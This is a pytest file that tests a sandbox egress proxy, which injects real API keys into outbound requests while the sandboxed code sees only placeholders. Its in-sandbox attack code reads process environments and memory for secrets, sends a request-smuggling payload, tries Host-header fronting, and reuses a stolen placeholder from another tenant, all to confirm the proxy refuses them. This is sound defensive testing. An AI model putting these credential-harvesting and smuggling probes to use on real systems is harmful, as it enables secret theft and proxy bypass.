"""Secrets at the egress proxy, attacked for real: code uses a key it never sees, and cannot send it elsewhere.

Each test runs code in a real sandbox granted network; the proxy terminates TLS for the hosts a
secret goes to (a leaf of its own CA), puts the real value in the header, and checks the test
host's certificate against the tests' CA (``egress_upstream_ca``). The test host answers the
SHA-256 of the ``Authorization`` it received (``/auth``) or echoes it (``/echo``). The first
test ends with a planted-secret search: the sandbox's files and every process's memory, the
server's log, metrics and ``doctor``.
"""

from __future__ import annotations

import hashlib
import io
import json
import logging
import textwrap
from pathlib import Path
from typing import Any

import anyio.to_thread
import pytest

from mcp_sandbox.config import load_settings
from mcp_sandbox.doctor import doctor
from mcp_sandbox.egress import EgressGrant, TenantEgress
from mcp_sandbox.server.metrics import Metrics

from .conftest import EgressEngine, HostNet, audit_lines, execute

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

REAL = "sk-live-" + "Q7f2x9Lk3mZp8RtY1vWc"  # the value the code must never see
OTHER = "ghp-" + "9sKd82jfLq0Pz7Xc4Vb1"
VALUES = {"value": REAL, "other": OTHER}


def settings_env() -> dict[str, str]:
    return {
        "API_KEY_VALUE": REAL,
        "OTHER_VALUE": OTHER,
        "MCP_SANDBOX_SECRET_API": '{ value_from = "env:API_KEY_VALUE", hosts = ["api.web.test"], '
        'placeholder_env = "API_KEY" }',
        "MCP_SANDBOX_SECRET_OTHER": '{ value_from = "env:OTHER_VALUE", hosts = ["other.test"], '
        'header = "X-Token", template = "{value}" }',
    }


def flags(test_net: HostNet, tmp_path: Path, **more: Any) -> dict[str, Any]:
    ca = tmp_path / "upstream-ca.pem"
    ca.write_text(test_net.ca)
    return {
        "egress_allow": "web.test",
        "egress_allow_private": f"{test_net.address}/32",
        "egress_upstream_ca": str(ca),
        **more,
    }


def grant(egress: TenantEgress, tenant: str = "default") -> EgressGrant:
    made = egress.grant(tenant, True, None)
    assert made is not None
    return made


PYTHON = """
import glob, json, os, shutil, subprocess, urllib.error, urllib.request
key = os.environ.get("API_KEY", "")
def get(url, auth=None, **headers):
    request = urllib.request.Request(url, headers={**headers, **({"Authorization": f"Bearer {auth}"} if auth else {})})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return [answer.status, answer.read().decode(), dict(answer.headers)]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode(), dict(error.headers)]
seen = {}
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/run/egress/*"):
    try:
        seen[path] = open(path, "rb").read().decode("latin-1")
    except OSError as error:
        seen[path] = str(error)
def smuggle():
    tunnel = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=10)
    tunnel.set_tunnel("api.web.test", 443)
    tunnel.putrequest("POST", "/auth")
    tunnel.putheader("Content-Length", "5")
    tunnel.putheader("Transfer-Encoding", "chunked")
    tunnel.endheaders(b"0\\r\\n\\r\\n")
    answer = tunnel.getresponse()
    return [answer.status, answer.getheader("X-Egress-Rule")]
import http.client, requests, sys
curl = None  # the container images hold no curl
if shutil.which("curl"):
    curl = subprocess.run(["curl", "-sS", "https://api.web.test/auth"], capture_output=True, text=True, timeout=20)
index = ["index", "versions", "demo", "--index-url", "https://api.web.test/simple/", "--no-cache-dir"]
pip = subprocess.run(
    [sys.executable, "-m", "pip", *index, "--disable-pip-version-check"], capture_output=True, text=True, timeout=60
)
mine = (hashlib.sha256(key.encode()).hexdigest(), key[:9].encode(), len(key))  # a control: it is there
print(json.dumps({
    "key": key,
    "auth": get("https://api.web.test/auth"),
    "echo": get("https://api.web.test/echo", key),
    "other": get("https://other.test/auth", key),
    "plain": get("http://web.test/", key),
    "fronted": get("https://api.web.test/auth", Host="web.test"),
    "smuggled": smuggle(),
    "requests": requests.get("https://api.web.test/auth", timeout=10).text,
    "curl": curl and [curl.returncode, curl.stdout, curl.stderr],
    "pip": [pip.returncode, pip.stdout, pip.stderr],
    "environ": dict(os.environ),
    "seen": seen,
    "planted": planted({**NEEDLES, "placeholder": mine}),
}))
"""


# The planted-secret search, run last by the code: every file on the sandbox's writable mounts (and
# /run, /etc, /tmp, the workspace; not crossing into other mounts) and every readable page of every
# process it can read. It knows the value by its SHA-256 only (the value is never in the sandbox, so
# neither is the needle): each window after the value's public prefix is hashed.
SEARCH = """
import hashlib, resource, stat
def planted(needles):
    found, searched = {name: {} for name in needles}, {"files": 0, "processes": 0, "bytes": 0, "unreadable": []}
    def count(data, where):
        for name, (target, prefix, length) in needles.items():
            at = data.find(prefix)
            while at >= 0:
                if hashlib.sha256(data[at : at + length]).hexdigest() == target:
                    found[name][where] = found[name].get(where, 0) + 1
                at = data.find(prefix, at + 1)
    roots = {"/run", "/etc", "/tmp", os.getcwd()}
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if "rw" in fields[5].split(",") and not fields[4].startswith(("/proc", "/sys", "/dev")):
            roots.add(fields[4])
    for root in roots:
        device = os.stat(root).st_dev
        for folder, folders, names in os.walk(root):
            folders[:] = [f for f in folders if os.lstat(os.path.join(folder, f)).st_dev == device]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if not stat.S_ISREG(os.lstat(path).st_mode):
                        continue
                    with open(path, "rb") as file:
                        count(file.read(64 << 20), path)
                except OSError:
                    continue
                searched["files"] += 1
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError as error:
            searched["unreadable"].append(f"{pid}: {error}")
            continue
        searched["processes"] += 1
        with memory:
            for line in maps:
                span, permissions = line.split()[:2]
                start, end = (int(edge, 16) for edge in span.split("-"))
                if "r" not in permissions:
                    continue
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                searched["bytes"] += len(data)
                count(data, f"{pid} {line}")
    return found, searched, resource.getrlimit(resource.RLIMIT_CORE)
"""


def hashed(header: str) -> str:
    return hashlib.sha256(header.encode()).hexdigest()


@pytest.mark.parametrize("backend", ["bwrap", "podman", "docker"])
async def test_the_code_uses_a_secret_it_never_sees_and_cannot_send_elsewhere(
    egress_engine: EgressEngine, test_net: HostNet, tmp_path: Path, backend: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    async with egress_engine(backend, env=settings_env(), **flags(test_net, tmp_path)) as (engine, egress):
        metrics = Metrics(dict, dict)
        engine.events.subscribe(metrics.observe)
        # The search knows each value by its hash, its length and a public prefix only.
        needles = {name: (hashlib.sha256(v.encode()).hexdigest(), v[:4].encode(), len(v)) for name, v in VALUES.items()}
        needle = f"NEEDLES = {needles!r}"
        result = await execute(engine, f"{SEARCH}\n{needle}\n{PYTHON}", grant(egress))
        assert result.status == "success", result
        seen = json.loads(result.stdout)
        log = (engine.settings.paths.state_dir / "logs" / "egress.log").read_text()
        lines, report = audit_lines(engine), io.StringIO()  # the lines of the run (doctor adds its own)
        if backend == "bwrap":  # what doctor says of secrets is the same for every backend
            paths = engine.settings.paths  # doctor takes the whole settings: the same ones, read again
            given = {"state_dir": str(paths.state_dir), "python_runtime": str(paths.python_runtime)}
            settings = load_settings(env=settings_env(), flags={**given, **flags(test_net, tmp_path)})
            await anyio.to_thread.run_sync(doctor, settings, report)  # it runs an event loop of its own
    key = seen["key"]
    assert key.startswith("mcpsbx-secret-api-") and REAL not in key
    assert not list(engine.layout.runs.glob("*-egress-*"))  # the trust files went with it
    # The header arrived with the real value, from urllib, requests and curl (pip too), trusting the CA by default.
    assert seen["auth"][:2] == [200, hashed(f"Bearer {REAL}")]
    assert seen["requests"] == hashed(f"Bearer {REAL}")
    if backend == "bwrap":
        assert seen["curl"][:2] == [0, hashed(f"Bearer {REAL}")], seen["curl"]
    assert seen["pip"][0] == 0 and seen["pip"][1].startswith("demo (1.0)"), seen["pip"]  # pip trusts it too
    # An echo of the real value reaches the code as the placeholder, in the body and the headers.
    assert seen["echo"][1] == f"you sent: Bearer {key}"
    assert seen["echo"][2]["X-Echo"] == f"Bearer {key}"
    # The placeholder to another secret's host, or in the clear, is refused.
    assert seen["other"][0] == 403 and seen["other"][2]["X-Egress-Rule"] == "secret_placeholder"
    assert seen["plain"][0] == 403 and seen["plain"][2]["X-Egress-Rule"] == "secret_placeholder"
    # Another site behind the same address (another Host in the secret's tunnel) does not get it.
    assert seen["fronted"][0] == 403 and seen["fronted"][2]["X-Egress-Rule"] == "secret_host"
    # Two framings (a request smuggled into the next secret-bearing one) are refused.
    assert seen["smuggled"] == [400, "request"]
    # Never in the sandbox (environment, /proc, the socket's directory), the output or the audit log.
    for place in (result.stdout, result.stderr, log):
        assert REAL not in place and OTHER not in place
    # The planted-secret search: no file, no process's memory in the sandbox, and no core dump may
    # be written; nothing the server says: its log, its metrics, doctor (a short hash instead).
    found, searched, core = seen["planted"]
    assert found["value"] == found["other"] == {} and core == [0, 0], seen["planted"]
    assert found["placeholder"], searched  # the search does find what is there
    assert searched["files"] > 3 and searched["processes"] >= 1 and searched["bytes"] > 1 << 20, searched
    said = caplog.text + metrics.render().decode() + report.getvalue()
    assert REAL not in said and OTHER not in said
    assert backend != "bwrap" or "secret api (tenant default): Authorization" in report.getvalue()
    assert seen["environ"]["SSL_CERT_FILE"] == "/run/egress/ca-bundle.pem"
    refused = {(line["host"], line["rule"]) for line in lines if line["verdict"] == "refused"}
    assert refused == {
        ("other.test", "secret_placeholder"),
        ("web.test", "secret_placeholder"),
        ("api.web.test", "secret_host"),
        ("api.web.test", "request"),
    }
    applied = [line for line in lines if line["host"] == "api.web.test" and line["verdict"] != "refused"]
    assert applied and all(line["secrets"] == ["api"] and line["rule"] == "secret" for line in applied)


async def test_each_run_gets_its_own_placeholder_and_another_tenant_cannot_use_one(
    egress_engine: EgressEngine, test_net: HostNet, tmp_path: Path
) -> None:
    code = """
        import json, os, urllib.request
        given = os.environ.get("API_KEY") or {stolen!r}
        request = urllib.request.Request("https://api.web.test/auth", headers={{"Authorization": f"Bearer {{given}}"}})
        try:
            with urllib.request.urlopen(request, timeout=10) as answer:
                print(json.dumps([given, answer.read().decode()]))
        except OSError as error:
            print(json.dumps([given, str(error)]))
    """
    more = flags(test_net, tmp_path, egress_allow="web.test,*.web.test")
    async with egress_engine(env=settings_env(), **more) as (engine, egress):
        first = await execute(engine, code.format(stolen=""), grant(egress))
        second = await execute(engine, code.format(stolen=""), grant(egress))
        (key, answer), (again, _) = json.loads(first.stdout), json.loads(second.stdout)
        # bob, another tenant, reaches the same host with the default tenant's placeholder.
        theft = await execute(engine, code.format(stolen=key), grant(egress, "bob"), tenant="bob")
    assert answer == hashed(f"Bearer {REAL}")
    assert key != again  # a fork or a next run never gets a placeholder another run had
    stolen, what = json.loads(theft.stdout)
    assert stolen == key
    assert what != hashed(f"Bearer {REAL}")  # bob's run is no secret's: no value was put in
    assert REAL not in theft.stdout + theft.stderr


async def test_a_conversations_runs_use_the_secret_with_a_placeholder_of_their_own(
    egress_engine: EgressEngine, test_net: HostNet, tmp_path: Path
) -> None:
    code = """
        import json, os, urllib.request
        kept = globals().get("kept", [])
        kept.append(os.environ["API_KEY"])
        answer = urllib.request.urlopen("https://api.web.test/auth", timeout=10).read().decode()
        print(json.dumps([kept, answer]))
    """
    async with egress_engine(env=settings_env(), **flags(test_net, tmp_path)) as (engine, egress):
        first = await execute(engine, code, grant(egress), session="s")
        second = await execute(engine, code, grant(egress), session="s")
    assert first.status == second.status == "success", (first, second)
    assert not list(engine.layout.runs.glob("*-egress-*"))  # the session's, at its end
    (one,), answer = json.loads(first.stdout)
    (again, two), later = json.loads(second.stdout)
    assert again == one and two != one  # the interpreter kept run 1's; run 2 got its own
    assert answer == later == hashed(f"Bearer {REAL}")


@pytest.mark.parametrize("backend", ["bwrap", "podman", "docker"])
@pytest.mark.parametrize("js_runtime", ["bun", "deno"])
async def test_typescript_fetch_trusts_the_proxy_ca(
    egress_engine: EgressEngine, test_net: HostNet, tmp_path: Path, js_runtime: str, backend: str
) -> None:
    code = textwrap.dedent("""
        const answer = await fetch("https://api.web.test/auth");
        console.log(answer.status, await answer.text());
    """)
    more = flags(test_net, tmp_path, js_runtime=js_runtime)
    async with egress_engine(backend, env=settings_env(), **more) as (engine, egress):
        result = await execute(engine, code, grant(egress), language="typescript")
    assert (result.status, result.stdout) == ("success", f"200 {hashed(f'Bearer {REAL}')}\n"), result
